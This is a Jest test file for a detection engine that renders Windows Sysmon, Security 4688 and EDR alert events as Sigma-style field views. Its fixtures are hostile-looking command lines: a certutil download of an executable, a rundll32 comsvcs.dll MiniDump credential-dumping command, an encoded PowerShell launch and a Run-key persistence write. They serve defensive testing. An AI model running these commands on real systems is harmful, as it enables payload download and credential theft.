import {
  MAX_VALUE_CHARS,
  ViewFields,
  alertViews,
  integrityLevelName,
  sysmonHashes,
  sysmonPath,
  sysmonRegistryKey,
  windowsEventViews,
} from '../../../lambdas/core/detect/event-view';
import type { EventView } from '../../../lambdas/core/detect/event-view';
import { readWinEvent } from '../../../lambdas/core/formats/sysmon/win-event';
import type { WinEvent } from '../../../lambdas/core/formats/sysmon/win-event';
import { makeAlert } from '../enrich/factories';

/** An event as evtx_dump renders it (the SigmaHQ regression data's shape). */
function evtx(channel: string, provider: string, eventId: number, data: Record<string, unknown>): WinEvent {
  const ev = readWinEvent({
    kind: 'json',
    position: 'line 1',
    text: '{}',
    envelopes: [],
    value: {
      Event: {
        System: {
          Provider: { '#attributes': { Name: provider } },
          EventID: eventId,
          Channel: channel,
          Computer: 'ws-01.corp.example',
          Security: { '#attributes': { UserID: 'S-1-5-18' } },
          EventRecordID: 7,
          TimeCreated: { '#attributes': { SystemTime: '2025-10-24T23:41:00.601559Z' } },
        },
        EventData: data,
      },
    },
  });
  if (ev === undefined) throw new Error('not a Windows event');
  return ev;
}

const only = (views: EventView[], kind: string): EventView => {
  const v = views.find((x) => x.kind === kind);
  if (v === undefined) throw new Error(`no ${kind} view among ${views.map((x) => x.kind).join(', ')}`);
  return v;
};

describe('Windows event views', () => {
  it('shows a Sysmon event under its own field names, with the System fields Sigma names', () => {
    const views = windowsEventViews(
      evtx('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, {
        Image: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'cmd.exe /c whoami',
        ParentImage: '',
      }),
    );
    expect(views).toHaveLength(1);
    const [v] = views;
    expect(v!.kind).toBe('sysmon');
    expect(v!.keys).toEqual(['cat:process_creation', 'svc:sysmon', 'product']);
    expect(v!.fields.get('Image')).toBe('C:\\Windows\\System32\\cmd.exe');
    expect(v!.fields.get('EventID')).toBe(1);
    expect(v!.fields.get('Channel')).toBe('Microsoft-Windows-Sysmon/Operational');
    expect(v!.fields.get('Provider_Name')).toBe('Microsoft-Windows-Sysmon');
    expect(v!.fields.get('Computer')).toBe('ws-01.corp.example');
    expect(v!.fields.get('Security_UserID')).toBe('S-1-5-18');
    // Empty stays empty (rules tell `ParentImage: ''` from `ParentImage: null`).
    expect(v!.fields.get('ParentImage')).toBe('');
    expect(v!.fields.get('ParentCommandLine')).toBeUndefined();
  });

  it('gives Sysmon for Linux no view', () => {
    expect(windowsEventViews(evtx('Linux-Sysmon/Operational', 'Linux-Sysmon', 1, { Image: '/usr/bin/curl' }))).toEqual(
      [],
    );
  });

  it('falls back to a case-insensitive field name', () => {
    const f = new ViewFields().set('commandline', 'x');
    expect(f.get('CommandLine')).toBe('x');
    expect(f.get('commandline')).toBe('x');
  });

  it('shows the unnamed Data of a classic PowerShell event as one list field `Data`', () => {
    const ev = readWinEvent({
      kind: 'json',
      position: 'line 1',
      text: '{}',
      envelopes: [],
      value: {
        Event: {
          System: { Provider: { '#attributes': { Name: 'PowerShell' } }, EventID: 400, Channel: 'Windows PowerShell' },
          EventData: { Data: ['Available', 'None', 'NewEngineState=Available\n\tHostName=ConsoleHost'] },
        },
      },
    })!;
    const [v] = windowsEventViews(ev);
    expect(v!.keys).toEqual(['cat:ps_classic_start', 'svc:powershell-classic', 'product']);
    expect(v!.fields.get('Data')).toEqual(['Available', 'None', 'NewEngineState=Available\n\tHostName=ConsoleHost']);
  });

  it('cuts a value longer than the cap to its head, and says so', () => {
    const huge = `powershell -enc ${'A'.repeat(400_000)}`;
    const [v] = windowsEventViews(
      evtx('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, { CommandLine: huge }),
    );
    const cmd = v!.fields.get('CommandLine') as string;
    expect(cmd).toHaveLength(MAX_VALUE_CHARS);
    expect(cmd.startsWith('powershell -enc AAAA')).toBe(true);
    expect(v!.fields.truncated).toBe(1);
    expect(v!.fields.lowerText().length).toBeLessThan(MAX_VALUE_CHARS + 1_000);
  });
});

describe('Security 4688 as process_creation', () => {
  const ev4688 = (extra: Record<string, string> = {}): WinEvent =>
    evtx('Security', 'Microsoft-Windows-Security-Auditing', 4688, {
      SubjectUserSid: 'S-1-5-21-1-2-3-1001',
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3a4f1',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\certutil.exe',
      TokenElevationType: '%%1937',
      ProcessId: '0x10f8',
      CommandLine: 'certutil -urlcache -f http://x/a.exe a.exe',
      TargetUserSid: 'S-1-0-0',
      TargetUserName: '-',
      TargetDomainName: '-',
      TargetLogonId: '0x0',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      MandatoryLabel: 'S-1-16-12288',
      ...extra,
    });

  it('gives the raw event to security rules and its Sysmon-1 rendering to process_creation rules', () => {
    const views = windowsEventViews(ev4688());
    expect(views.map((v) => [v.kind, v.keys])).toEqual([
      ['security', ['svc:security', 'product']],
      ['security-4688', ['cat:process_creation']],
    ]);
    const raw = only(views, 'security').fields;
    expect(raw.get('NewProcessName')).toBe('C:\\Windows\\System32\\certutil.exe');
    expect(raw.get('ProcessId')).toBe('0x10f8');
    expect(raw.get('Image')).toBeUndefined();
  });

  it('renames the fields the way SigmaHQ pipelines and Hayabusa do, completed with user, integrity and pids', () => {
    const f = only(windowsEventViews(ev4688()), 'security-4688').fields;
    expect(f.get('Image')).toBe('C:\\Windows\\System32\\certutil.exe');
    expect(f.get('ParentImage')).toBe('C:\\Windows\\System32\\cmd.exe');
    expect(f.get('CommandLine')).toBe('certutil -urlcache -f http://x/a.exe a.exe');
    expect(f.get('User')).toBe('CORP\\alice');
    expect(f.get('IntegrityLevel')).toBe('High');
    expect(f.get('ProcessId')).toBe('6700');
    expect(f.get('ParentProcessId')).toBe('4344');
    expect(f.get('LogonId')).toBe('0x3a4f1');
    expect(f.get('EventID')).toBe(4688);
    // The Security names stay beside the Sysmon ones.
    expect(f.get('NewProcessName')).toBe('C:\\Windows\\System32\\certutil.exe');
    expect(f.get('TokenElevationType')).toBe('%%1937');
  });

  it('spells SYSTEM as Sysmon does when 4688 shows the machine account', () => {
    const f = only(
      windowsEventViews(
        ev4688({
          SubjectUserSid: 'S-1-5-18',
          SubjectUserName: 'WS-01$',
          SubjectDomainName: 'CORP',
          SubjectLogonId: '0x3e7',
        }),
      ),
      'security-4688',
    ).fields;
    expect(f.get('User')).toBe('NT AUTHORITY\\SYSTEM');
  });

  it('prefers the target account when the new process runs as another user', () => {
    const f = only(
      windowsEventViews(
        ev4688({
          TargetUserSid: 'S-1-5-21-1-2-3-500',
          TargetUserName: 'admin',
          TargetDomainName: 'CORP',
          TargetLogonId: '0x77',
        }),
      ),
      'security-4688',
    ).fields;
    expect(f.get('User')).toBe('CORP\\admin');
    expect(f.get('LogonId')).toBe('0x77');
  });

  it('names integrity levels from SIDs, RIDs and names', () => {
    expect(integrityLevelName('S-1-16-16384')).toBe('System');
    expect(integrityLevelName('S-1-16-8192')).toBe('Medium');
    expect(integrityLevelName('4096')).toBe('Low');
    expect(integrityLevelName('high')).toBe('High');
    expect(integrityLevelName('-')).toBeUndefined();
  });
});

describe('EDR alert views', () => {
  const edr = makeAlert({
    alertId: 'crowdstrike:ldt:1',
    source: { product: 'crowdstrike', format: 'crowdstrike-alerts-v2' },
    eventType: 'detection',
    process: {
      pid: 4242,
      image: 'C:\\Windows\\System32\\rundll32.exe',
      commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
      user: 'CORP\\alice',
      integrityLevel: 'S-1-16-12288',
      currentDirectory: 'C:\\Temp\\',
      hashes: { md5: 'aabb', sha256: 'ccdd', sha1: 'eeff' },
      parent: { image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe /c run.bat' },
      grandparent: { image: 'C:\\Windows\\explorer.exe' },
    },
    network: { dstIp: '203.0.113.9', dstPort: 443, protocol: 'TCP', direction: 'outbound' },
    file: { path: 'C:\\Temp\\l.dmp' },
    registry: { operation: 'SetValue', key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Run', valueName: 'x', valueData: 'y' },
    dns: { query: 'evil.example', results: ['203.0.113.9'] },
  });

  it('lays out the process as a Sysmon process creation', () => {
    const v = only(alertViews(edr), 'edr-process');
    expect(v.keys).toEqual(['cat:process_creation', 'product']);
    expect(v.fields.get('Image')).toBe('C:\\Windows\\System32\\rundll32.exe');
    expect(v.fields.get('CommandLine')).toContain('MiniDump');
    expect(v.fields.get('ParentImage')).toBe('C:\\Windows\\System32\\cmd.exe');
    expect(v.fields.get('ParentCommandLine')).toBe('cmd.exe /c run.bat');
    expect(v.fields.get('GrandParentImage')).toBe('C:\\Windows\\explorer.exe');
    expect(v.fields.get('User')).toBe('CORP\\alice');
    expect(v.fields.get('IntegrityLevel')).toBe('High');
    expect(v.fields.get('CurrentDirectory')).toBe('C:\\Temp\\');
    expect(v.fields.get('Hashes')).toBe('SHA1=EEFF,MD5=AABB,SHA256=CCDD');
    expect(v.fields.get('ProcessId')).toBe('4242');
  });

  it('lays out the connection, file, registry and DNS blocks as the Sysmon events that carry them', () => {
    const views = alertViews(edr);
    expect(views.map((v) => v.kind)).toEqual(['edr-process', 'edr-network', 'edr-file', 'edr-registry', 'edr-dns']);
    const net = only(views, 'edr-network');
    expect(net.keys).toEqual(['cat:network_connection', 'product']);
    expect(net.fields.get('DestinationIp')).toBe('203.0.113.9');
    expect(net.fields.get('DestinationPort')).toBe('443');
    expect(net.fields.get('Initiated')).toBe('true');
    expect(net.fields.get('Protocol')).toBe('tcp');
    expect(net.fields.get('Image')).toBe('C:\\Windows\\System32\\rundll32.exe');
    expect(only(views, 'edr-file').fields.get('TargetFilename')).toBe('C:\\Temp\\l.dmp');
    const reg = only(views, 'edr-registry');
    expect(reg.keys).toEqual(['cat:registry_set', 'cat:registry_event', 'product']);
    expect(reg.fields.get('TargetObject')).toBe('HKLM\\SOFTWARE\\Run\\x');
    expect(reg.fields.get('Details')).toBe('y');
    expect(reg.fields.get('EventType')).toBe('SetValue');
    expect(only(views, 'edr-dns').fields.get('QueryName')).toBe('evil.example');
  });

  it('uses the alert user when the process names none', () => {
    const a = makeAlert({ user: { name: 'bob', domain: 'CORP' }, process: { image: 'C:\\x.exe' } });
    expect(only(alertViews(a), 'edr-process').fields.get('User')).toBe('CORP\\bob');
  });

  it('gives no view for an alert about another OS', () => {
    expect(alertViews(makeAlert({ host: { name: 'web-1', os: 'Ubuntu 22.04' }, process: { image: 'x' } }))).toEqual([]);
    expect(alertViews(makeAlert({ process: { image: '/usr/bin/curl', commandLine: 'curl x' } }))).toEqual([]);
  });

  it('gives no process view to an alert with no process', () => {
    expect(alertViews(makeAlert({ process: undefined }))).toEqual([]);
  });

  it('spells kernel paths and bare names as Sysmon does', () => {
    expect(sysmonPath('\\Device\\HarddiskVolume3\\Windows\\System32\\rundll32.exe')).toBe(
      'C:\\Windows\\System32\\rundll32.exe',
    );
    expect(sysmonPath('\\??\\C:\\Windows\\x.exe')).toBe('C:\\Windows\\x.exe');
    expect(sysmonPath('explorer.exe')).toBe('\\explorer.exe');
    expect(sysmonPath('D:\\tools\\x.exe')).toBe('D:\\tools\\x.exe');
    const cs = makeAlert({
      process: {
        image: '\\Device\\HarddiskVolume3\\Windows\\System32\\rundll32.exe',
        parent: { image: 'explorer.exe' },
      },
    });
    const f = only(alertViews(cs), 'edr-process').fields;
    expect(f.get('Image')).toBe('C:\\Windows\\System32\\rundll32.exe');
    expect(f.get('ParentImage')).toBe('\\explorer.exe');
  });

  it('spells hashes and registry hives as Sysmon does', () => {
    expect(sysmonHashes({ imphash: 'ab', sha256: 'cd', md5: 'ef', tlsh: '01' })).toBe(
      'MD5=EF,SHA256=CD,IMPHASH=AB,TLSH=01',
    );
    expect(sysmonHashes({})).toBeUndefined();
    expect(sysmonRegistryKey('\\REGISTRY\\MACHINE\\SOFTWARE\\x')).toBe('HKLM\\SOFTWARE\\x');
    expect(sysmonRegistryKey('HKEY_USERS\\S-1-5-21\\x')).toBe('HKU\\S-1-5-21\\x');
    expect(sysmonRegistryKey('HKLMX\\y')).toBe('HKLMX\\y');
  });
});
